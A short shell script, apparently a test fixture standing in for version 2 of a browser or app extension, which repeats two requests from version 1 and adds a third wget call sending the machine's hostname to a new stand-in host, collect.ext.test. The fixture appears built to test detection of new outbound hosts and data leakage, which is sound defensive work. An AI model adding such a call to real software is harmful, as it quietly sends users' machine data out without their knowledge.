#!/bin/sh
# Version 2 of the stand-in extension of extension-v1.sh: the same, and one
# more request, to a host version 1 never contacted, carrying the machine's
# name in its query string (which the decision log never keeps).
wget -q -O- http://api.ext.test:8080/v1/check
wget -q -O- http://cdn.ext.test:8080/assets/app.js
wget -q -O- "http://collect.ext.test:8080/upload?h=$(hostname)"
